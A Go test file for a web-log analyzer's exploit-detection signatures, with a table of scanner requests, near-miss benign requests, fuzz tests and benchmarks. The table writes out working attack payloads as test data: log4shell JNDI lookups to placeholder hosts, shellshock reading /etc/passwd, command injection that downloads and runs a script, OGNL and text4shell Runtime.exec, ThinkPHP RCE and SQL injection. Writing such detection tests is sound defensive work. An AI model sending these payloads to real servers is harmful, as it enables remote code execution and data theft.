package pseudonymize

import (
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vakt-dev/vakt/analyze/rules/signatures"
	"github.com/vakt-dev/vakt/internal/event"
)

// A request of each exploit and probe kind, as scanners send them, with the
// signature it must match; and near misses real visitors send.
var signatureCases = []struct {
	name, target, referer, ua string
	want                      string // signature id; "" for none
	flag                      event.Flags
}{
	{"log4shell in the query", "/?x=${jndi:ldap://203.0.113.5:1389/a}", "", firefoxUA, "log4shell", event.FlagExploit},
	{"log4shell url-encoded", "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "", firefoxUA, "log4shell", event.FlagExploit},
	{"log4shell double-encoded", "/search?q=%2524%257Bjndi%253Aldap%253A%252F%252Fx%257D", "", firefoxUA, "log4shell", event.FlagExploit},
	{"log4shell obfuscated in the referer", "/", "${${lower:j}ndi:${lower:l}dap://x.example/a}", firefoxUA, "log4shell", event.FlagExploit},
	{"log4shell default-value obfuscation, upper case", "/?A=${${::-J}${::-N}DI:LDAP://x/a}", "", firefoxUA, "log4shell", event.FlagExploit},
	{"log4shell in the user agent", "/", "", "${jndi:ldap://x.example/a}", "log4shell", event.FlagExploit | event.FlagBadUserAgent},
	{"text4shell", "/text?search=%24%7Bscript%3Ajavascript%3Ajava.lang.Runtime.getRuntime%28%29.exec%28%27id%27%29%7D", "", firefoxUA, "text4shell", event.FlagExploit},
	{"shellshock in the referer", "/cgi-bin/status", "() { :; }; /bin/bash -c 'cat /etc/passwd'", firefoxUA, "shellshock", event.FlagExploit},
	{"shellshock in the user agent", "/cgi-bin/test.cgi", "", "() { :;}; echo; /bin/cat /etc/passwd", "shellshock", event.FlagExploit | event.FlagBadUserAgent},
	{"phpunit", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", firefoxUA, "phpunit-eval-stdin", event.FlagExploit},
	{"thinkphp", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP", "", firefoxUA, "thinkphp-rce", event.FlagExploit},
	{"thinkphp encoded backslashes", "/?s=index/%5Cthink%5Ctemplate%5Cdriver%5Cfile/write&cacheFile=x.php", "", firefoxUA, "thinkphp-rce", event.FlagExploit},
	{"spring4shell", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "", firefoxUA, "spring4shell", event.FlagExploit},
	{"confluence ognl", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", "", firefoxUA, "ognl-injection", event.FlagExploit},
	{"jira web-inf", "/s/cfx/_/;/WEB-INF/web.xml", "", firefoxUA, "java-web-inf", event.FlagExploit},
	{"php-cgi", "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "", firefoxUA, "php-cgi-argument-injection", event.FlagExploit},
	{"php filter", "/index.php?page=php://filter/convert.base64-encode/resource=index", "", firefoxUA, "php-wrapper-inclusion", event.FlagExploit},
	{"command injection", "/cgi-bin/luci?cmd=;wget+http://203.0.113.9/x.sh;sh+x.sh", "", firefoxUA, "os-command-injection", event.FlagExploit},
	{"command injection with a pipe, plus-encoded", "/ping.php?ip=127.0.0.1%7Ccurl+-s+http%3A%2F%2Fx%2Fa%7Csh", "", firefoxUA, "os-command-injection", event.FlagExploit},
	{"dedecms eval", "/uploads/dede/sys_verifies.php?action=getfiles&refiles%5B0%5D=123&refiles%5B1%5D=%5C%22;eval($_POST%5Bysy%5D);die();//", "", firefoxUA, "php-code-injection", event.FlagExploit},
	{"ecshop referer", "/user.php?act=login", `554fcae493e564ee0dc75bdf2ebf94caads|a:2:{s:3:"num";s:288:"*/ union select 1,0x272f2a,3,4,5,6,7,8,0x7b24,10-- -";s:2:"id";s:3:"'/*";}`, firefoxUA, "ecshop-referer-sqli", event.FlagExploit},
	{"open proxy", "http://example.org/", "", firefoxUA, "open-proxy-absolute-uri", event.FlagExploit},
	{"w00tw00t", "/w00tw00t.at.ISC.SANS.DFind:)", "", "", "dfind-w00tw00t", event.FlagExploit},
	{"fckeditor upload", "/FCKeditor/editor/filemanager/connectors/asp/connector.asp?Command=FileUpload&Type=File&CurrentFolder=%2F", "", firefoxUA, "fckeditor-upload", event.FlagExploit},
	{"dedecms", "/uploads/dede/sys_verifies.php?action=down", "", firefoxUA, "dedecms-rce", event.FlagExploit},
	{"installer", "/wp-admin/setup-config.php", "", firefoxUA, "cms-installer", event.FlagProbe},
	{"web shell", "/wp-content/plugins/x/wso.php", "", firefoxUA, "webshell", event.FlagProbe},
	{"upload script", "/uploads/up.php", "", firefoxUA, "upload-script", event.FlagProbe},
	{"backup archive", "/restore/www.zip", "", "", "archive-name", event.FlagProbe},
	{"site-named archive", "/example.com.tar.gz", "", "", "archive-name", event.FlagProbe},
	{"wallet", "/wallet.dat", "", "", "secret-file", event.FlagProbe},

	{"negative: a page", "/blog/2026/11/25/a-post-title", "https://www.google.com/", firefoxUA, "", 0},
	{"negative: uploads folder", "/wp-content/uploads/2026/11/photo.jpg", "https://example.com/blog", firefoxUA, "", 0},
	{"negative: a template placeholder left in a link", "/users/${id}/profile", "", firefoxUA, "", 0},
	{"negative: searching for curl", "/search?q=curl+wget+examples", "", firefoxUA, "", 0},
	{"negative: a release download", "/downloads/vakt-1.2.tar.gz", "", firefoxUA, "", 0},
	{"negative: shell scripting docs", "/docs/shell-scripting.html", "", firefoxUA, "", 0},
	{"negative: a referrer with a search", "/", "https://duckduckgo.com/?q=a+%22quoted%22+search&t=h_", firefoxUA, "", 0},
	{"negative: a java class page", "/docs/java.lang.Runtime.html", "", firefoxUA, "", 0},
	{"negative: redirect url parameter", "/login?next=https://example.com/account", "", firefoxUA, "", 0},
	{"allowed: googlebot", "/", "", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "", event.FlagAllowed},
	{"allowed: git clone", "/vakt.git/info/refs?service=git-upload-pack", "", "git/2.43.0", "", event.FlagAllowed},
	{"allowed: uptime monitor", "/health", "", "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "", event.FlagAllowed},
}

const firefoxUA = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"

const signatureFlags = event.FlagExploit | event.FlagProbe | event.FlagAllowed | event.FlagBadUserAgent

func TestSignatures(t *testing.T) {
	m := BuiltinMatcher()
	for _, c := range signatureCases {
		f, id := m.Classify(c.target, c.referer, c.ua)
		if id != c.want || f&signatureFlags != c.flag {
			t.Errorf("%s: %q referer %q ua %q: signature %q flags %b, want %q %b", c.name, c.target, c.referer, c.ua, id, f&signatureFlags, c.want, c.flag)
		}
	}
}

// Every exploit signature is named with a CVE or a reason it has none,
// and every built-in signature is hit by a case above.
func TestBuiltinSignaturesCovered(t *testing.T) {
	hit := map[string]bool{}
	for _, c := range signatureCases {
		hit[c.want] = true
	}
	for _, s := range signatures.Builtin().Signatures {
		if s.Family != signatures.Allow && !hit[s.ID] {
			t.Errorf("signature %s (%s) has no case in signatureCases", s.ID, s.Source)
		}
	}
}

// A signatures directory replaces a built-in file by name and adds files;
// a broken file is reported naming it.
func TestSignatureDirOverrides(t *testing.T) {
	dir := t.TempDir()
	write := func(name, body string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("allow.yaml", "family: allow\nsignatures:\n  - id: our-monitor\n    name: our own monitor\n    in: [user_agent]\n    any: [\"acme-probe/\"]\n")
	write("local.yaml", "family: exploit\nsignatures:\n  - id: acme-cve\n    name: ACME admin RCE\n    cve: CVE-2031-12345\n    in: [target]\n    any: [\"/acme/run.cgi\"]\n    future_field: kept for newer versions\n")
	set, err := signatures.Load(dir)
	if err != nil {
		t.Fatal(err)
	}
	m, err := NewMatcher(set)
	if err != nil {
		t.Fatal(err)
	}
	if f, id := m.Classify("/acme/run.cgi?x=1", "", "acme-probe/1.0"); id != "acme-cve" || f&signatureFlags != event.FlagExploit|event.FlagAllowed {
		t.Errorf("local signatures: %q %b", id, f)
	}
	if f, _ := m.Classify("/", "", "Googlebot/2.1"); f&event.FlagAllowed != 0 {
		t.Error("allow.yaml in the directory should replace the built-in one")
	}
	if s, ok := set.Lookup("acme-cve"); !ok || s.CVE != "CVE-2031-12345" {
		t.Errorf("lookup: %+v %v", s, ok)
	}
	write("broken.yaml", "family: exploit\nsignatures:\n  - id: Bad Id\n    any: []\n")
	_, err = signatures.Load(dir)
	if err == nil || !strings.Contains(err.Error(), "broken.yaml") || !strings.Contains(err.Error(), "id \"Bad Id\"") {
		t.Errorf("broken file: %v", err)
	}
}

// naiveClassify runs every signature over every decoding layer with no
// index: the reference the bloom-filtered matcher must agree with.
func naiveClassify(m *Matcher, target, referer string) match {
	out := noMatch
	layers := func(s string) []string {
		var ls []string
		layer := strings.ToLower(s)
		for range maxDecodeRounds + 1 {
			ls = append(ls, layer)
			next := strings.ToLower(decodeOnce(layer))
			if next == layer {
				break
			}
			layer = next
		}
		return ls
	}
	try := func(field, text string) {
		for i, s := range m.set.Signatures {
			if !s.In(field) || !containsAny(text, s.Any) || (s.Re != nil && !s.Re.MatchString(text)) {
				continue
			}
			out.merge(map[string]match{
				signatures.Exploit: {i, -1, -1}, signatures.Probe: {-1, i, -1}, signatures.Allow: {-1, -1, i},
			}[s.Family])
		}
	}
	for _, l := range layers(target) {
		try(signatures.Target, l)
		p, _, _ := strings.Cut(l, "?")
		try(signatures.Path, p)
	}
	if referer != "" && referer != "-" {
		for _, l := range layers(referer) {
			try(signatures.Referer, l)
		}
	}
	return out
}

// FuzzSignatureIndex checks the literal index and the referrer prefilter
// against running every signature over every layer.
func FuzzSignatureIndex(f *testing.F) {
	for _, c := range signatureCases {
		f.Add(c.target, c.referer)
	}
	f.Add("/", "%u0024%u007bjndi:x}")
	f.Add("/", "%2524%257Bjndi:ldap://x%257D")
	f.Add("/", "http://x/?s=index/%c1%9cthink%c1%9capp/invokefunction")
	m := BuiltinMatcher()
	if !m.refererPrefilter {
		f.Fatal("a built-in referrer signature has a literal without a suspect byte: the prefilter is off")
	}
	f.Fuzz(func(t *testing.T, target, referer string) {
		_, got := m.targetFlags(target)
		got.merge(m.refererMatch(referer))
		want := naiveClassify(m, target, referer)
		// Families agree; the index reports the first signature of a
		// family over the layers in order, as the reference does.
		if (got.exploit < 0) != (want.exploit < 0) || (got.probe < 0) != (want.probe < 0) {
			t.Fatalf("target %q referer %q: index %+v, every signature %+v", target, referer, got, want)
		}
	})
}

// BenchmarkClassifyBenign measures what signature matching adds to a
// benign request (target, referrer, user agent): "none" is the same
// classification with an empty signature set.
func BenchmarkClassifyBenign(b *testing.B) {
	targets := []string{"/images/billing.png", "/products?id=123&page=2", "/blog/2026/11/25/a-post-title", "/api/v1/items?sort=price&order=asc", "/"}
	referers := []string{"https://www.google.com/", "https://shop.example/products?id=122", "-", "https://duckduckgo.com/?q=shoes%20red", ""}
	empty, err := NewMatcher(&signatures.Set{})
	if err != nil {
		b.Fatal(err)
	}
	for _, bc := range []struct {
		name string
		m    *Matcher
	}{{"none", empty}, {"builtin", BuiltinMatcher()}} {
		b.Run("signatures="+bc.name, func(b *testing.B) {
			b.ReportAllocs()
			cpu := threadCPU()
			i := 0
			for b.Loop() {
				bc.m.Classify(targets[i%len(targets)], referers[i%len(referers)], "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36")
				i++
			}
			// CPU time, unlike ns/op, does not count the time the
			// benchmark waited for a core on a loaded machine.
			b.ReportMetric(float64(threadCPU()-cpu)/float64(b.N), "cpu-ns/op")
		})
	}
}

// BenchmarkSignatureStepBenign is only what signature matching adds to a
// benign request: the target's layer and the referrer (user-agent verdicts
// are cached per agent).
func BenchmarkSignatureStepBenign(b *testing.B) {
	targets := []string{"/images/billing.png", "/products?id=123&page=2", "/blog/2026/11/25/a-post-title", "/api/v1/items?sort=price&order=asc", "/", "/products/shoes?size=42&color=red&page=2"}
	referers := []string{"https://www.google.com/", "https://shop.example/products?id=122", "-", "https://duckduckgo.com/?q=shoes%20red", "", "https://www.google.com/search?q=red%20shoes"}
	m := BuiltinMatcher()
	b.ReportAllocs()
	cpu := threadCPU()
	i := 0
	for b.Loop() {
		x := m.targetLayer(targets[i%len(targets)])
		x.merge(m.refererMatch(referers[i%len(referers)]))
		i++
	}
	b.ReportMetric(float64(threadCPU()-cpu)/float64(b.N), "cpu-ns/op")
}

// The pseudonymiser stores the signature id and flags of the raw request
// and scrubs the payload itself: the referrer's exploit is not stored.
func TestBuildStoresSignature(t *testing.T) {
	keys := mustKeys(t, 1, 1)
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "local.yaml"), []byte("family: exploit\nsignatures:\n  - id: acme-cve\n    name: ACME\n    in: [target]\n    any: [\"/acme/run.cgi\"]\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	b, err := newBuilder(Config{QueryPolicy: QueryRedact, SignatureDirs: []string{dir}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	raw := event.Raw{ClientIP: netip.MustParseAddr("198.51.100.7"), Method: "GET", Target: "/?q=1", Status: 200,
		Referrer: "https://x.example/?a=${jndi:ldap://203.0.113.5/a}", UserAgent: firefoxUA}
	var e event.Event
	if err := b.build(keys, &raw, "shop.example", &e); err != nil {
		t.Fatal(err)
	}
	if e.Signature != "log4shell" || e.Flags&event.FlagExploit == 0 || strings.Contains(e.Referrer, "jndi") || strings.Contains(e.Referrer, "203.0.113.5") {
		t.Errorf("signature %q flags %b referrer %q", e.Signature, e.Flags, e.Referrer)
	}
	raw.Referrer, raw.Target = "", "/acme/run.cgi?cmd=id"
	if err := b.build(keys, &raw, "shop.example", &e); err != nil {
		t.Fatal(err)
	}
	if e.Signature != "acme-cve" || e.Query != "cmd=" {
		t.Errorf("signature from the directory: %q, query %q", e.Signature, e.Query)
	}
	if _, err := newBuilder(Config{SignatureDirs: []string{"/nonexistent"}}, nil); err != nil {
		t.Errorf("a rules dir without signatures: %v", err)
	}
}
